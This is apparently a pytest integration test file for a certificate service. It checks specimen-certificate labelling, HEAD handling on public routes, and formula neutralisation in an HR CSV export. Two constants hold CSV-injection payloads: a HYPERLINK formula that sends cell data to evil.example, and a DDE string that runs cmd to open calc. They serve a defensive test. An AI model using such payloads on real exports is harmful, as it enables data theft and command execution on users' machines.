"""The certificate service's public edges on the real servers: a specimen certificate's page says
so, HEAD answers on every public route, and the HR CSV export is safe to open in a spreadsheet."""

import csv
import datetime as dt
import io
import re

import pytest

from devstack.upstream import cloud_event
from services.certificates.app import create_app
from shared.contract.events import completed_event_id
from shared.platform.auth import hash_key, new_key
from shared.platform.settings import REPO_ROOT
from tests.integration.test_certificates_service import settings_for
from tests.support import Bus, running, unique

pytestmark = pytest.mark.integration
SPECIMEN = "humas-level-up-2026"  # its signer is a specimen (signer.specimen = true)
OFFICIAL = "uji-resmi-2026"  # the same program with a real signer, written in the test's tmp dir
KEY = new_key()
AUTH = {"X-API-Key": KEY}
JSON = {"Accept": "application/json"}
FORMULA_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'
FORMULA_UNIT = "@SUM(1+1)*cmd|' /C calc'!A0"


def completion(program_id: str, i: int, name: str, unit_kerja: str = "Biro Humas") -> dict:
    nip = f"19850312201001{1 + i % 2}{i:03d}"
    data = {"program_id": program_id, "nip": nip, "name": name, "jenjang": "ahli_muda", "unit_kerja": unit_kerja,
            "sessions": list(range(1, 17)), "jp": 32, "completed_at": dt.datetime(2026, 9, 25, tzinfo=dt.UTC).isoformat()}  # fmt: skip
    return cloud_event("completed", data, source="/services/attendance", id=completed_event_id(program_id, nip))


@pytest.fixture
async def service(amqp_url, mongodb_url, s3, tmp_path):
    programs = tmp_path / "programs"
    programs.mkdir()
    original = (REPO_ROOT / "deploy" / "programs" / f"{SPECIMEN}.toml").read_text("utf-8")
    official = original.replace(f'id = "{SPECIMEN}"', f'id = "{OFFICIAL}"').replace(
        "specimen = true", "specimen = false"
    )
    assert official.count(OFFICIAL) == 1 and "specimen = false" in official
    (programs / f"{SPECIMEN}.toml").write_text(original, "utf-8")
    (programs / f"{OFFICIAL}.toml").write_text(official, "utf-8")
    settings = settings_for(amqp_url, mongodb_url, s3, unique("certificates")).model_copy(update={
        "programs_dir": programs, "operator_api_keys": f"rina:{hash_key(KEY)}", "public_rate_limit": "1000/minute"})  # fmt: skip
    async with running(create_app(settings)) as http, Bus(amqp_url) as bus:
        issued = await bus.watch("certificate.issued")
        await bus.publish("completed", completion(SPECIMEN, 1, "Siti Aminah"))
        await bus.publish("completed", completion(OFFICIAL, 2, "Dewi Lestari"))
        await bus.publish("completed", completion(OFFICIAL, 3, FORMULA_NAME, FORMULA_UNIT))
        events = await issued.until(lambda evts: len({e["data"]["nip"] for e in evts}) == 3, what="three certificates")
        yield http, {e["data"]["nip"][-3:]: e["data"] for e in events}


def path_of(url: str) -> str:
    return url.removeprefix("http://service")


async def test_a_specimen_certificate_is_not_shown_as_official(service):
    http, issued = service
    specimen, official = issued["001"], issued["002"]

    body = (await http.get(path_of(specimen["verify_url"]), headers=JSON)).json()
    assert body["specimen"] is True and body["status"] == "valid", "the contract's status stays; specimen is added"
    page = await http.get(path_of(specimen["verify_url"]))
    assert page.status_code == 200 and "Siti Aminah" in page.text
    assert not re.search(r"\bSAH\b", page.text), "no green SAH badge for a specimen"
    assert "CONTOH" in page.text and "bukan sertifikat resmi" in page.text

    body = (await http.get(path_of(official["verify_url"]), headers=JSON)).json()
    assert body["specimen"] is False and body["status"] == "valid"
    page = await http.get(path_of(official["verify_url"]))
    assert re.search(r'class="status valid">\s*SAH\s*<', page.text) and "CONTOH" not in page.text


async def test_head_answers_every_public_route_like_get_without_a_body(service):
    http, issued = service
    data = issued["002"]
    unknown = "A" * 22
    routes = [
        (path_of(data["verify_url"]), {}, 200),
        (path_of(data["verify_url"]), JSON, 200),
        (path_of(data["url"]), {}, 200),
        ("/healthz", {}, 200),
        ("/readyz", {}, 200),
        (f"/verify/{unknown}", {}, 404),
        (f"/certificates/{unknown}.pdf", {}, 404),
    ]
    for path, headers, status in routes:
        get = await http.get(path, headers=headers)
        head = await http.head(path, headers=headers)
        assert (get.status_code, head.status_code) == (status, status), f"HEAD {path}: {head.status_code}"
        assert head.content == b"", f"HEAD {path} sent a body"
        assert dict(head.headers) == dict(get.headers), path


async def test_the_hr_csv_export_neutralises_formulas(service):
    http, issued = service
    response = await http.get(f"/api/certificates/export/{OFFICIAL}.csv", headers=AUTH)
    assert response.status_code == 200
    rows = {r["nip"]: r for r in csv.DictReader(io.StringIO(response.text.lstrip("\ufeff")))}
    hostile = rows[issued["003"]["nip"]]
    assert hostile["nama"] == "'" + FORMULA_NAME and hostile["unit_kerja"] == "'" + FORMULA_UNIT
    plain = rows[issued["002"]["nip"]]
    assert plain["nama"] == "Dewi Lestari" and plain["unit_kerja"] == "Biro Humas" and plain["jp"] == "32"
    assert plain["verify_url"] == issued["002"]["verify_url"]


async def test_a_specimen_stays_a_specimen_after_the_program_names_a_real_signer(amqp_url, mongodb_url, s3, tmp_path):
    """The PDF says CONTOH for good: the page follows the PDF, not today's program file."""
    programs = tmp_path / "programs"
    programs.mkdir()
    toml = programs / f"{SPECIMEN}.toml"
    original = (REPO_ROOT / "deploy" / "programs" / f"{SPECIMEN}.toml").read_text("utf-8")
    toml.write_text(original, "utf-8")
    settings = settings_for(amqp_url, mongodb_url, s3, unique("certificates")).model_copy(
        update={"programs_dir": programs}
    )
    async with running(create_app(settings)), Bus(amqp_url) as bus:
        issued = await bus.watch("certificate.issued")
        await bus.publish("completed", completion(SPECIMEN, 4, "Rina Wati"))
        [event] = await issued.until(lambda evts: len(evts) == 1, what="the specimen certificate")

    toml.write_text(original.replace("specimen = true", "specimen = false"), "utf-8")  # a real signer now
    async with running(create_app(settings)) as http, Bus(amqp_url) as bus:
        issued = await bus.watch("certificate.issued")
        body = (await http.get(path_of(event["data"]["verify_url"]), headers=JSON)).json()
        assert body["specimen"] is True, "its PDF carries the CONTOH watermark"
        await bus.publish("completed", completion(SPECIMEN, 5, "Budi Santoso"))
        [later] = await issued.until(lambda evts: len(evts) == 1, what="a certificate under the real signer")
        body = (await http.get(path_of(later["data"]["verify_url"]), headers=JSON)).json()
        assert body["specimen"] is False
